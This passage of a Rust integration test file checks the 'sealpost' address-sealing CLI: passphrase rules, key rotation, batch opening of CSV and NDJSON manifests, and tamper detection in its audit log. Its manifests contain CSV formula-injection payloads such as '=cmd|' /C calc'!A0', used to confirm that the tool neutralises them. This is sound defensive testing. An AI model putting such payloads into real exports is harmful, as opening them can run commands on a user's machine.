//! The hub features as an operator meets them: protected identities, key rotation, batch open,
//! the audit trail. Real `sealpost` processes on real files; each case checks the exact exit
//! code, stdout and stderr where they are deterministic.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic
)]

use std::{
    io::Write,
    path::{Path, PathBuf},
    process::{Command, Stdio},
};

use serde_json::Value;

const PASS: &str = "correct horse battery staple";

const ADDRESS: &str = r#"{"name":"张三","phone":"13812345678","country":"CN","addressLevel1":"浙江省",
  "addressLevel2":"杭州市","addressLevel3":"西湖区","streetLines":["文三路 90 号"],"postalCode":"310012"}"#;

/// A scratch directory; commands run inside it, so messages show relative names.
struct Hub {
    dir: PathBuf,
}

#[derive(Debug, PartialEq)]
struct Out {
    code: i32,
    stdout: String,
    stderr: String,
}

impl Hub {
    fn new(name: &str) -> Hub {
        let dir = Path::new(env!("CARGO_TARGET_TMPDIR"))
            .join("hub")
            .join(name);
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).unwrap();
        let hub = Hub { dir };
        let out = hub.run(&["audit", "init"], &[], "");
        assert_eq!(out.code, 0, "{}", out.stderr);
        hub
    }

    fn path(&self, name: &str) -> PathBuf {
        self.dir.join(name)
    }

    fn cmd(&self, args: &[&str], env: &[(&str, &str)]) -> Command {
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_sealpost"));
        cmd.current_dir(&self.dir)
            .args(args)
            .env("SEALPOST_AUDIT_LOG", "audit.log")
            .env("SEALPOST_OPERATOR", "alice")
            .env_remove("SEALPOST_PASSPHRASE")
            .env_remove("SEALPOST_NEW_PASSPHRASE");
        for (k, v) in env {
            cmd.env(k, v);
        }
        cmd
    }

    fn run(&self, args: &[&str], env: &[(&str, &str)], stdin: &str) -> Out {
        let mut child = self
            .cmd(args, env)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        // a process that fails early may not read its stdin
        let _ = child.stdin.take().unwrap().write_all(stdin.as_bytes());
        let out = child.wait_with_output().unwrap();
        Out {
            code: out.status.code().unwrap_or(-1),
            stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
            stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
        }
    }

    /// A protected identity with a cheap KDF (tests run the debug build); returns the public key.
    fn keygen(&self, name: &str, extra: &[&str]) -> String {
        let mut args = vec![
            "keygen",
            "-o",
            name,
            "--kdf-memory",
            "8192",
            "--kdf-passes",
            "1",
        ];
        args.extend(extra);
        let out = self.run(&args, &[("SEALPOST_PASSPHRASE", PASS)], "");
        assert_eq!(out.code, 0, "{}", out.stderr);
        out.stdout.trim().to_owned()
    }

    fn seal(&self, pk: &str, order: &str) -> String {
        let out = self.run(&["seal", "--to", pk, "--order", order], &[], ADDRESS);
        assert_eq!(out.code, 0, "{}", out.stderr);
        out.stdout.trim().to_owned()
    }

    fn write(&self, name: &str, text: &str) {
        std::fs::write(self.path(name), text).unwrap();
    }

    fn read(&self, name: &str) -> String {
        std::fs::read_to_string(self.path(name)).unwrap()
    }

    fn mode(&self, name: &str) -> u32 {
        use std::os::unix::fs::PermissionsExt;
        std::fs::metadata(self.path(name))
            .unwrap()
            .permissions()
            .mode()
            & 0o777
    }

    fn files(&self) -> Vec<String> {
        let mut names: Vec<String> = std::fs::read_dir(&self.dir)
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        names.sort();
        names
    }
}

fn key_id_of(hub: &Hub, key: &str) -> String {
    hub.read(key)
        .lines()
        .find_map(|l| l.strip_prefix("# key id: "))
        .unwrap()
        .to_owned()
}

#[test]
fn keygen_protects_by_default_and_refuses_weak_passphrases() {
    let hub = Hub::new("keygen");
    let pk = hub.keygen("courier.key", &[]);
    assert!(pk.starts_with("sp1"));
    assert_eq!(hub.mode("courier.key"), 0o600);
    let text = hub.read("courier.key");
    assert!(text.contains("SEALPOST-PROTECTED-KEY-1 pk="), "{text}");
    assert!(!text.contains("SEALPOST-SECRET-KEY-1"), "{text}");
    // the public key is readable without the passphrase
    assert_eq!(
        hub.run(&["pubkey", "-i", "courier.key"], &[], ""),
        Out {
            code: 0,
            stdout: format!("{pk}\n"),
            stderr: String::new()
        }
    );

    let hint = "sealpost: hint: use at least 12 characters that are not a number, an order \
                reference or the key id: e.g. four random words, or one from a password manager\n";
    for (pass, why) in [
        ("hunter2", "shorter than 12 characters (7)"),
        (
            "ORD-20261126-0042",
            "it looks like an order or phone number",
        ),
        ("aaaaaaaaaaaaaaaaaaaa", "fewer than 5 different characters"),
    ] {
        let out = hub.run(
            &["keygen", "-o", "weak.key"],
            &[("SEALPOST_PASSPHRASE", pass)],
            "",
        );
        assert_eq!(
            out,
            Out {
                code: 1,
                stdout: String::new(),
                stderr: format!(
                    "sealpost: error: weak_passphrase: passphrase refused: {why}\n{hint}"
                ),
            },
            "{pass}"
        );
        assert!(!hub.path("weak.key").exists());
    }

    // no terminal and no passphrase: refused, pointing at the automated options
    let out = hub.run(&["keygen", "-o", "x.key"], &[], "");
    assert_eq!(out.code, 6, "{}", out.stderr);
    assert!(out.stderr.starts_with(
        "sealpost: error: passphrase_required: cannot ask for a passphrase on the terminal"
    ));
    assert!(out.stderr.ends_with(
        "sealpost: hint: on an automated hub, set $SEALPOST_PASSPHRASE or pass --passphrase-file FILE\n"
    ));

    // --unencrypted is explicit and still 0600
    let out = hub.run(&["keygen", "--unencrypted", "-o", "plain.key"], &[], "");
    assert_eq!(out.code, 0);
    assert!(hub.read("plain.key").contains("SEALPOST-SECRET-KEY-1"));
    assert_eq!(hub.mode("plain.key"), 0o600);
}

#[test]
fn wrong_passphrase_and_readable_identity_are_refused_with_hints() {
    let hub = Hub::new("refusals");
    let pk = hub.keygen("courier.key", &[]);
    let id = key_id_of(&hub, "courier.key");
    let envelope = hub.seal(&pk, "ORD-1");

    let out = hub.run(
        &["open", "-i", "courier.key"],
        &[("SEALPOST_PASSPHRASE", "not the right passphrase")],
        &envelope,
    );
    assert_eq!(
        out,
        Out {
            code: 6,
            stdout: String::new(),
            stderr: format!(
                "sealpost: error: wrong_passphrase: courier.key (key id {id}): the passphrase does \
                 not unlock this identity\nsealpost: hint: $SEALPOST_PASSPHRASE is not the \
                 passphrase set at `sealpost keygen` (or the file was edited)\n"
            ),
        }
    );

    // a passphrase file works, and must itself be private
    hub.write("pass.txt", &format!("{PASS}\n"));
    set_mode(&hub.path("pass.txt"), 0o644);
    let out = hub.run(
        &["open", "-i", "courier.key", "--passphrase-file", "pass.txt"],
        &[],
        &envelope,
    );
    assert_eq!(out.code, 6, "{}", out.stderr);
    assert!(out
        .stderr
        .starts_with("sealpost: error: insecure_permissions: passphrase file pass.txt can be read by other users (mode 0644)\n"));
    set_mode(&hub.path("pass.txt"), 0o600);
    let out = hub.run(
        &["open", "-i", "courier.key", "--passphrase-file", "pass.txt"],
        &[],
        &envelope,
    );
    assert_eq!(out.code, 0, "{}", out.stderr);
    let got: Value = serde_json::from_str(&out.stdout).unwrap();
    // as sealed: with the division code seal filled in from the built-in address data
    let mut want =
        serde_json::to_value(serde_json::from_str::<sealpost::Address>(ADDRESS).unwrap()).unwrap();
    want["divisionCode"] = "330106".into();
    assert_eq!(got, want);

    set_mode(&hub.path("courier.key"), 0o644);
    let out = hub.run(
        &["open", "-i", "courier.key"],
        &[("SEALPOST_PASSPHRASE", PASS)],
        &envelope,
    );
    assert_eq!(
        out,
        Out {
            code: 6,
            stdout: String::new(),
            stderr: "sealpost: error: insecure_permissions: identity file courier.key can be read \
                     by other users (mode 0644)\nsealpost: hint: run `chmod 600 courier.key`; if \
                     others may have copied it, retire the key\n"
                .to_owned(),
        }
    );
    set_mode(&hub.path("courier.key"), 0o640);
    assert_eq!(
        hub.run(&["pubkey", "-i", "courier.key"], &[], "").code,
        6,
        "group-readable is refused too"
    );
}

fn set_mode(path: &Path, mode: u32) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
}

#[test]
fn key_rotation_opens_with_the_matching_identity_and_warns_after_not_after() {
    let hub = Hub::new("rotation");
    let old_pk = hub.keygen("old.key", &["--not-after", "2020-06-30"]);
    let new_pk = hub.keygen("new.key", &["--not-after", "2099-12-31"]);
    assert!(hub
        .read("old.key")
        .contains(" not-after=2020-06-30T23:59:59Z kdf=argon2id "));
    let old_id = key_id_of(&hub, "old.key");
    let old_env = hub.seal(&old_pk, "ORD-OLD");
    let new_env = hub.seal(&new_pk, "ORD-NEW");
    let pass = [("SEALPOST_PASSPHRASE", PASS)];

    let out = hub.run(&["open", "-i", "new.key", "-i", "old.key"], &pass, &new_env);
    assert_eq!((out.code, out.stderr.as_str()), (0, ""));
    let out = hub.run(&["open", "-i", "new.key", "-i", "old.key"], &pass, &old_env);
    assert_eq!(out.code, 0);
    assert_eq!(
        out.stderr,
        format!(
            "sealpost: warning: identity old.key (key id {old_id}) is past its not-after date \
             2020-06-30T23:59:59Z; ask shops to seal to your new key and retire this one\n"
        )
    );
    // one file holding both identities (cat old.key new.key > ring.key)
    hub.write("ring.key", &(hub.read("new.key") + &hub.read("old.key")));
    set_mode(&hub.path("ring.key"), 0o600);
    assert_eq!(
        hub.run(&["pubkey", "-i", "ring.key"], &[], "").stdout,
        format!("{new_pk}\n{old_pk}\n")
    );
    let out = hub.run(
        &["open", "-i", "ring.key", "--order", "ORD-OLD"],
        &pass,
        &old_env,
    );
    assert_eq!(out.code, 0, "{}", out.stderr);
    // protect: a plain file gets a passphrase; the not-after date is kept
    let out = hub.run(
        &[
            "keygen",
            "--unencrypted",
            "-o",
            "plain.key",
            "--not-after",
            "2031-01-01",
        ],
        &[],
        "",
    );
    assert_eq!(out.code, 0);
    let plain_pk = out.stdout.trim().to_owned();
    let out = hub.run(
        &[
            "identity",
            "protect",
            "-i",
            "plain.key",
            "-o",
            "locked.key",
            "--kdf-memory",
            "8192",
            "--kdf-passes",
            "1",
        ],
        &[("SEALPOST_NEW_PASSPHRASE", "another good passphrase")],
        "",
    );
    assert_eq!(
        (out.code, out.stdout.trim()),
        (0, plain_pk.as_str()),
        "{}",
        out.stderr
    );
    let locked = hub.read("locked.key");
    assert!(
        locked.contains("SEALPOST-PROTECTED-KEY-1")
            && locked.contains("not-after=2031-01-01T23:59:59Z")
    );
    let env = hub.seal(&plain_pk, "ORD-P");
    let out = hub.run(
        &["open", "-i", "locked.key"],
        &[("SEALPOST_PASSPHRASE", "another good passphrase")],
        &env,
    );
    assert_eq!(out.code, 0, "{}", out.stderr);
}

/// Five records: good, order swapped, corrupt, not JSON, good (and one more in CSV).
fn manifest(hub: &Hub, pk: &str) -> (String, String) {
    let e1 = hub.seal(pk, "ORD-1");
    let e2 = hub.seal(pk, "ORD-2");
    let mut corrupt = e2.clone().into_bytes();
    let at = corrupt.len() - 20;
    corrupt[at] = if corrupt[at] == b'A' { b'B' } else { b'A' };
    let corrupt = String::from_utf8(corrupt).unwrap();
    let ndjson = format!(
        "{{\"orderRef\":\"ORD-1\",\"envelope\":\"{e1}\",\"parcel\":1}}\n\
         {{\"orderRef\":\"ORD-9\",\"envelope\":\"{e1}\",\"parcel\":2}}\n\
         {{\"orderRef\":\"ORD-2\",\"envelope\":\"{corrupt}\",\"parcel\":3}}\n\
         {{\"orderRef\":\"ORD-3\",\"envelope\":\n\
         {{\"orderRef\":\"ORD-2\",\"envelope\":\"{e2}\",\"parcel\":5}}\n"
    );
    // CSV: quoted fields with commas, doubled quotes and a line break; a short row
    let csv = format!(
        "parcel,envelope,orderRef,note\r\n\
         1,{e1},ORD-1,\"fragile, \"\"glass\"\"\"\r\n\
         2,\"{e2}\",ORD-2,\"two\nlines\"\r\n\
         3,{corrupt},ORD-2,\r\n\
         4,ORD-4\r\n\
         5,{e2},ORD-2,=cmd|' /C calc'!A0\r\n"
    );
    (ndjson, csv)
}

#[test]
fn batch_ndjson_with_corrupt_lines_in_the_middle() {
    let hub = Hub::new("batch_ndjson");
    let pk = hub.keygen("courier.key", &[]);
    let (ndjson, _) = manifest(&hub, &pk);
    hub.write("manifest.ndjson", &ndjson);
    let out = hub.run(
        &[
            "open",
            "--batch",
            "-i",
            "courier.key",
            "-o",
            "opened.ndjson",
            "manifest.ndjson",
        ],
        &[("SEALPOST_PASSPHRASE", PASS)],
        "",
    );
    assert_eq!(out.code, 7);
    assert_eq!(out.stdout, "");
    assert_eq!(
        out.stderr,
        "sealpost: read 5 records from manifest.ndjson: 2 opened, 3 rejected\n\
         sealpost: wrote 2 addresses to opened.ndjson (NDJSON), rejects to \
         opened.ndjson.rejects.ndjson; 5 audit records in audit.log\n\
         sealpost: error: records_rejected: 3 of 5 records could not be opened\n\
         sealpost: hint: opened.ndjson.rejects.ndjson lists each with its manifest line and \
         error code\n"
    );
    let opened: Vec<Value> = hub
        .read("opened.ndjson")
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(opened.len(), 2);
    assert_eq!(opened[0]["orderRef"], "ORD-1");
    assert_eq!(opened[0]["parcel"], 1);
    assert_eq!(opened[1]["parcel"], 5);
    assert!(opened[0].get("envelope").is_none());
    assert_eq!(opened[1]["address"]["phone"], "13812345678");
    assert_eq!(hub.mode("opened.ndjson"), 0o600);
    assert_eq!(
        hub.read("opened.ndjson.rejects.ndjson"),
        "{\"line\":2,\"order\":\"ORD-9\",\"code\":\"order_mismatch\",\"message\":\"envelope was \
         sealed for order \\\"ORD-1\\\" but is presented as order \\\"ORD-9\\\"\"}\n\
         {\"line\":3,\"order\":\"ORD-2\",\"code\":\"open_failed\",\"message\":\"envelope could \
         not be opened with this key: it was altered or is corrupt\"}\n\
         {\"line\":4,\"order\":null,\"code\":\"malformed_record\",\"message\":\"not valid JSON \
         (column 0)\"}\n"
    );
    // every record left a trace, in input order, and none holds the address
    let log = hub.read("audit.log");
    let outcomes: Vec<(u64, String)> = log
        .lines()
        .map(|l| {
            let v: Value = serde_json::from_str(l).unwrap();
            (
                v["line"].as_u64().unwrap(),
                v["outcome"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    assert_eq!(
        outcomes,
        [
            (1, "opened"),
            (2, "order_mismatch"),
            (3, "open_failed"),
            (4, "malformed_record"),
            (5, "opened")
        ]
        .map(|(n, o)| (n, o.to_owned()))
    );
    assert!(!log.contains("13812345678") && !log.contains("张三"));
    // no stray temporary files; the existing output is never replaced without --force
    assert_eq!(
        hub.files(),
        [
            "audit.log",
            "audit.log.head",
            "courier.key",
            "manifest.ndjson",
            "opened.ndjson",
            "opened.ndjson.rejects.ndjson"
        ]
    );
    let again = hub.run(
        &[
            "open",
            "--batch",
            "-i",
            "courier.key",
            "-o",
            "opened.ndjson",
            "manifest.ndjson",
        ],
        &[("SEALPOST_PASSPHRASE", PASS)],
        "",
    );
    assert_eq!(
        (again.code, again.stderr.lines().next().unwrap()),
        (5, "sealpost: error: output_exists: opened.ndjson exists")
    );
}

#[test]
fn batch_csv_quoting_edge_cases_and_formula_guard() {
    let hub = Hub::new("batch_csv");
    let pk = hub.keygen("courier.key", &[]);
    let (_, csv) = manifest(&hub, &pk);
    hub.write("manifest.csv", &csv);
    let out = hub.run(
        &[
            "open",
            "--batch",
            "-i",
            "courier.key",
            "-o",
            "opened.csv",
            "manifest.csv",
            "-j",
            "2",
        ],
        &[("SEALPOST_PASSPHRASE", PASS)],
        "",
    );
    assert_eq!(out.code, 7, "{}", out.stderr);
    assert!(out.stderr.starts_with(
        "sealpost: read 5 records (6 lines) from manifest.csv: 3 opened, 2 rejected\n"
    ));
    let tail = ",\"张三\",\"13812345678\",\"CN\",\"浙江省\",\"杭州市\",\"西湖区\",\"文三路 90 号\",\"\",\"\",\"310012\",\"\",\"\",\"330106\"\n";
    assert_eq!(
        hub.read("opened.csv"),
        format!(
            "\"parcel\",\"orderRef\",\"note\",\"name\",\"phone\",\"country\",\"addressLevel1\",\"addressLevel2\",\"addressLevel3\",\
             \"streetLine1\",\"streetLine2\",\"streetLine3\",\"postalCode\",\"company\",\"deliveryNote\",\"divisionCode\"\n\
             \"1\",\"ORD-1\",\"fragile, \"\"glass\"\"\"{tail}\
             \"2\",\"ORD-2\",\"two\nlines\"{tail}\
             \"5\",\"ORD-2\",\"'=cmd|' /C calc'!A0\"{tail}"
        )
    );
    // line numbers are where each record starts (record 2 spans two lines)
    assert_eq!(
        hub.read("opened.csv.rejects.ndjson"),
        "{\"line\":5,\"order\":\"ORD-2\",\"code\":\"open_failed\",\"message\":\"envelope could \
         not be opened with this key: it was altered or is corrupt\"}\n\
         {\"line\":6,\"order\":null,\"code\":\"malformed_record\",\"message\":\"expected 4 \
         fields, found 2\"}\n"
    );
    // NDJSON output from a CSV manifest keeps the manifest's columns (order, parcel, note)
    let out = hub.run(
        &[
            "open",
            "--batch",
            "-i",
            "courier.key",
            "-o",
            "opened.ndjson",
            "manifest.csv",
        ],
        &[("SEALPOST_PASSPHRASE", PASS)],
        "",
    );
    assert_eq!(out.code, 7, "{}", out.stderr);
    let first: serde_json::Value =
        serde_json::from_str(hub.read("opened.ndjson").lines().next().unwrap()).unwrap();
    assert_eq!(
        (
            &first["parcel"],
            &first["orderRef"],
            &first["note"],
            &first["address"]["divisionCode"]
        ),
        (
            &serde_json::json!("1"),
            &serde_json::json!("ORD-1"),
            &serde_json::json!("fragile, \"glass\""),
            &serde_json::json!("330106")
        ),
        "{first}"
    );
    // a missing column is named with the header
    let out = hub.run(
        &[
            "open",
            "--batch",
            "-i",
            "courier.key",
            "-o",
            "x.ndjson",
            "manifest.csv",
            "--order-column",
            "order",
        ],
        &[("SEALPOST_PASSPHRASE", PASS)],
        "",
    );
    assert_eq!(
        out,
        Out {
            code: 1,
            stdout: String::new(),
            stderr: "sealpost: error: missing_column: manifest.csv: the header has no \"order\" \
                     column\nsealpost: hint: the header is: \
                     parcel,envelope,orderRef,note; name the columns with --envelope-column and \
                     --order-column\n"
                .to_owned()
        }
    );
}

#[test]
fn csv_formula_cells_from_the_sealed_address_are_neutralised() {
    let hub = Hub::new("formula");
    let pk = hub.keygen("courier.key", &[]);
    let address = ADDRESS.replace(
        "\"postalCode\"",
        "\"company\":\"=HYPERLINK(\\\"http://x\\\")\",\"deliveryNote\":\"@SUM(1)\",\"postalCode\"",
    );
    let out = hub.run(&["seal", "--to", &pk, "--order", "ORD-F"], &[], &address);
    assert_eq!(out.code, 0, "{}", out.stderr);
    hub.write(
        "m.ndjson",
        &format!(
            "{{\"orderRef\":\"ORD-F\",\"envelope\":\"{}\"}}\n",
            out.stdout.trim()
        ),
    );
    let out = hub.run(
        &[
            "open",
            "--batch",
            "-i",
            "courier.key",
            "-o",
            "out.csv",
            "m.ndjson",
        ],
        &[("SEALPOST_PASSPHRASE", PASS)],
        "",
    );
    assert_eq!(out.code, 0, "{}", out.stderr);
    let csv = hub.read("out.csv");
    assert!(
        csv.ends_with(",\"310012\",\"'=HYPERLINK(\"\"http://x\"\")\",\"'@SUM(1)\",\"330106\"\n"),
        "{csv}"
    );
    assert!(
        csv.contains(",\"13812345678\","),
        "phone numbers are left alone: {csv}"
    );
}

#[test]
fn a_crash_mid_batch_leaves_no_complete_looking_output() {
    let hub = Hub::new("crash");
    let pk = hub.keygen("courier.key", &[]);
    let envelope = hub.seal(&pk, "ORD-1");
    let line = format!("{{\"orderRef\":\"ORD-1\",\"envelope\":\"{envelope}\"}}\n");
    let mut child = hub
        .cmd(
            &[
                "open",
                "--batch",
                "-i",
                "courier.key",
                "-o",
                "opened.ndjson",
            ],
            &[("SEALPOST_PASSPHRASE", PASS)],
        )
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    // more than one chunk (1024 records): the first is opened, audited and written while the
    // process waits for the rest of the manifest
    for _ in 0..1500 {
        stdin.write_all(line.as_bytes()).unwrap();
    }
    stdin.flush().unwrap();
    let audited = |hub: &Hub| {
        std::fs::read_to_string(hub.path("audit.log"))
            .map(|t| t.lines().count())
            .unwrap_or(0)
    };
    while audited(&hub) < 1024 {
        assert!(child.try_wait().unwrap().is_none(), "batch ended early");
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    child.kill().unwrap(); // SIGKILL: no destructor runs
    child.wait().unwrap();
    drop(stdin);

    let files = hub.files();
    assert!(!files.contains(&"opened.ndjson".to_owned()), "{files:?}");
    assert!(!files.iter().any(|f| f.starts_with("opened")), "{files:?}");
    let partial: Vec<&String> = files.iter().filter(|f| f.ends_with(".partial")).collect();
    assert!(!partial.is_empty(), "{files:?}");
    for f in partial {
        assert!(
            f.starts_with(".opened.ndjson.") || f.starts_with(".opened.ndjson.rejects.ndjson."),
            "{f}"
        );
        assert_eq!(hub.mode(f), 0o600, "{f}");
    }
    // the trail of what was opened before the crash is intact
    let out = hub.run(&["audit", "verify"], &[], "");
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(out
        .stdout
        .starts_with("audit.log: 1024 records, hash chain intact; head 1024 "));
}

/// A log of five single openings.
fn five_records(hub: &Hub) {
    let pk = hub.keygen("courier.key", &[]);
    for n in 1..=5 {
        let order = format!("ORD-{n}");
        let envelope = hub.seal(&pk, &order);
        let out = hub.run(
            &["open", "-i", "courier.key", "--order", &order],
            &[
                ("SEALPOST_PASSPHRASE", PASS),
                ("SEALPOST_OPERATOR", if n == 2 { "bob" } else { "alice" }),
            ],
            &envelope,
        );
        assert_eq!(out.code, 0, "{}", out.stderr);
    }
}

#[test]
fn audit_tampering_of_each_kind_is_detected() {
    let hub = Hub::new("tamper");
    five_records(&hub);
    let log = hub.read("audit.log");
    let head = hub.read("audit.log.head");
    let lines: Vec<&str> = log.lines().collect();
    assert_eq!(lines.len(), 5);
    let out = hub.run(&["audit", "verify"], &[], "");
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_eq!(
        out.stdout,
        format!("audit.log: 5 records, hash chain intact; head {head}")
    );

    let join = |ls: &[&str]| ls.iter().map(|l| format!("{l}\n")).collect::<String>();
    let rehash = |line: &str| {
        use sha2::Digest;
        let at = line.rfind(",\"hash\":\"").unwrap();
        let body = &line[..at];
        let hash: String = sha2::Sha256::digest(body.as_bytes())
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect();
        format!("{body},\"hash\":\"{hash}\"}}")
    };
    let edited = lines[2].replace("\"operator\":\"alice\"", "\"operator\":\"carol\"");
    let edited_rehashed = rehash(&edited);
    let cases: Vec<(&str, String, Option<String>, String)> = vec![
        ("edited", join(&[lines[0], lines[1], &edited, lines[3], lines[4]]), None,
         "audit.log line 3: the record does not match its hash (edited)".into()),
        ("edited, hash recomputed", join(&[lines[0], lines[1], &edited_rehashed, lines[3], lines[4]]), None,
         "audit.log line 4: the record does not chain to the one before it (deleted, reordered or replaced)".into()),
        ("deleted", join(&[lines[0], lines[1], lines[3], lines[4]]), None,
         "audit.log line 3: records 3 to 3 are missing (deleted)".into()),
        ("reordered", join(&[lines[0], lines[2], lines[1], lines[3], lines[4]]), None,
         "audit.log line 2: records 2 to 2 are missing (deleted)".into()),
        ("last record cut off", log[..log.len() - 30].to_owned(), None,
         "audit.log line 5: the last record is cut off (truncated)".into()),
        ("last record removed", join(&lines[..4]), None,
         "audit.log line 5: the log ends at record 4 but its head file records 5: records were removed from the end (truncated)".into()),
        ("head file removed", log.clone(), Some(String::new()),
         "audit.log.head line 1: the head file is missing, so records removed from the end would go unseen".into()),
    ];
    let pk = hub.run(&["pubkey", "-i", "courier.key"], &[], "").stdout;
    let envelope = hub.seal(pk.trim(), "ORD-6");
    let open = || {
        hub.run(
            &["open", "-i", "courier.key"],
            &[("SEALPOST_PASSPHRASE", PASS)],
            &envelope,
        )
    };
    for (what, text, head_text, message) in cases {
        hub.write("audit.log", &text);
        match &head_text {
            Some(_) => std::fs::remove_file(hub.path("audit.log.head")).unwrap(),
            None => hub.write("audit.log.head", &head),
        }
        let expected = format!("sealpost: error: audit_log_tampered: {message}");
        let out = hub.run(&["audit", "verify"], &[], "");
        assert_eq!(out.code, 8, "{what}: {}", out.stderr);
        assert_eq!(out.stdout, "", "{what}");
        assert_eq!(out.stderr.lines().next().unwrap(), expected, "{what}");
        // fail closed: no opening while the log does not verify, and trying does not heal it
        let out = open();
        assert_eq!(out.code, 8, "{what}: {}", out.stderr);
        assert_eq!(out.stdout, "", "{what}");
        assert_eq!(out.stderr.lines().next().unwrap(), expected, "{what}");
        assert!(
            out.stderr.contains("sealpost audit init --audit-log NEW"),
            "{what}"
        );
        let out = hub.run(&["audit", "verify"], &[], "");
        assert_eq!(
            out.code, 8,
            "{what}: still detected after an attempted open"
        );
    }

    // the log deleted, its head kept: evidence, nothing opened, no new log over it
    std::fs::remove_file(hub.path("audit.log")).unwrap();
    hub.write("audit.log.head", &head);
    let out = open();
    assert_eq!((out.code, out.stdout.as_str()), (8, ""), "{}", out.stderr);
    assert!(out.stderr.starts_with("sealpost: error: audit_log_missing: audit.log is missing but its head file audit.log.head is there"), "{}", out.stderr);
    let out = hub.run(&["audit", "init"], &[], "");
    assert_eq!(out.code, 5, "{}", out.stderr);
    assert!(out.stderr.starts_with("sealpost: error: audit_log_exists:"));
    assert!(
        !hub.path("audit.log").exists(),
        "a missing log must not be recreated"
    );
    // both gone: an operator must start a new log explicitly
    std::fs::remove_file(hub.path("audit.log.head")).unwrap();
    let out = open();
    assert_eq!((out.code, out.stdout.as_str()), (5, ""), "{}", out.stderr);
    assert!(
        out.stderr.contains("start one with `sealpost audit init`"),
        "{}",
        out.stderr
    );
    assert!(!hub.path("audit.log").exists());
    let out = hub.run(&["audit", "init"], &[], "");
    assert_eq!(out.code, 0, "{}", out.stderr);
    let out = open();
    assert_eq!(out.code, 0, "{}", out.stderr);
    let out = hub.run(&["audit", "verify"], &[], "");
    assert!(
        out.stdout
            .starts_with("audit.log: 1 records, hash chain intact"),
        "{}",
        out.stdout
    );
    // the head is replaced by rename: no temporary file is left behind
    assert!(!hub.path("audit.log.head.tmp").exists());
}

#[test]
fn audit_show_filters_and_never_shows_addresses() {
    let hub = Hub::new("show");
    five_records(&hub);
    let out = hub.run(&["audit", "show", "--operator", "bob"], &[], "");
    assert_eq!(out.code, 0, "{}", out.stderr);
    let rows: Vec<&str> = out.stdout.lines().collect();
    assert_eq!(rows.len(), 2, "{}", out.stdout);
    assert!(rows[0].contains("OPERATOR") && rows[0].contains("OUTCOME"));
    assert!(
        rows[1].contains(" bob ") && rows[1].contains(" ORD-2 ") && rows[1].ends_with(" opened")
    );
    let out = hub.run(&["audit", "show", "--order", "ORD-4", "--json"], &[], "");
    let v: Value = serde_json::from_str(out.stdout.trim()).unwrap();
    assert_eq!(
        (v["seq"].as_u64(), v["order"].as_str()),
        (Some(4), Some("ORD-4"))
    );
    let today = humantime::format_rfc3339_seconds(std::time::SystemTime::now()).to_string();
    let today = &today[..10];
    let out = hub.run(
        &[
            "audit", "show", "--since", today, "--until", today, "--json",
        ],
        &[],
        "",
    );
    assert_eq!(out.stdout.lines().count(), 5);
    let out = hub.run(
        &["audit", "show", "--until", "2001-01-01", "--json"],
        &[],
        "",
    );
    assert_eq!((out.code, out.stdout.as_str()), (0, ""));
    assert!(!hub.read("audit.log").contains("13812345678"));
}

#[test]
fn an_unwritable_audit_log_fails_closed() {
    let hub = Hub::new("failclosed");
    let pk = hub.keygen("courier.key", &[]);
    let envelope = hub.seal(&pk, "ORD-1");
    std::fs::create_dir_all(hub.path("a-directory")).unwrap();
    let out = hub.run(
        &["open", "-i", "courier.key", "--audit-log", "a-directory"],
        &[("SEALPOST_PASSPHRASE", PASS)],
        &envelope,
    );
    assert_eq!(out.code, 5, "{}", out.stderr);
    assert_eq!(out.stdout, "");
    assert!(
        out.stderr
            .starts_with("sealpost: error: audit_unavailable: a-directory"),
        "{}",
        out.stderr
    );
}

#[test]
fn two_batches_at_once_chain_their_records() {
    let hub = Hub::new("concurrent");
    let pk = hub.keygen("courier.key", &[]);
    let envelope = hub.seal(&pk, "ORD-1");
    let line = format!("{{\"orderRef\":\"ORD-1\",\"envelope\":\"{envelope}\"}}\n");
    let spawn = |out: &str, operator: &str| {
        hub.cmd(
            &[
                "open",
                "--batch",
                "-q",
                "-i",
                "courier.key",
                "-o",
                out,
                "-j",
                "1",
            ],
            &[
                ("SEALPOST_PASSPHRASE", PASS),
                ("SEALPOST_OPERATOR", operator),
            ],
        )
        .stdin(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap()
    };
    let audited = || hub.read("audit.log").lines().count();
    let wait_for = |n: usize| {
        while audited() < n {
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
    };
    // Both runs are alive at once, and each appends while the other holds its first chunk: A's
    // first chunk, then B's, then the rest of A, then the rest of B.
    let mut a = spawn("a.ndjson", "alice");
    let mut a_in = a.stdin.take().unwrap();
    a_in.write_all(line.repeat(1100).as_bytes()).unwrap();
    wait_for(1024);
    let mut b = spawn("b.ndjson", "bob");
    let mut b_in = b.stdin.take().unwrap();
    b_in.write_all(line.repeat(1100).as_bytes()).unwrap();
    wait_for(2048);
    assert!(
        a.try_wait().unwrap().is_none() && b.try_wait().unwrap().is_none(),
        "both runs must be alive"
    );
    a_in.write_all(line.repeat(1100).as_bytes()).unwrap();
    drop(a_in);
    assert!(a.wait().unwrap().success());
    b_in.write_all(line.repeat(1100).as_bytes()).unwrap();
    drop(b_in);
    assert!(b.wait().unwrap().success());
    let out = hub.run(&["audit", "verify"], &[], "");
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(
        out.stdout
            .starts_with("audit.log: 4400 records, hash chain intact"),
        "{}",
        out.stdout
    );
    // the proof of overlap: the operators' records interleave in the one chain
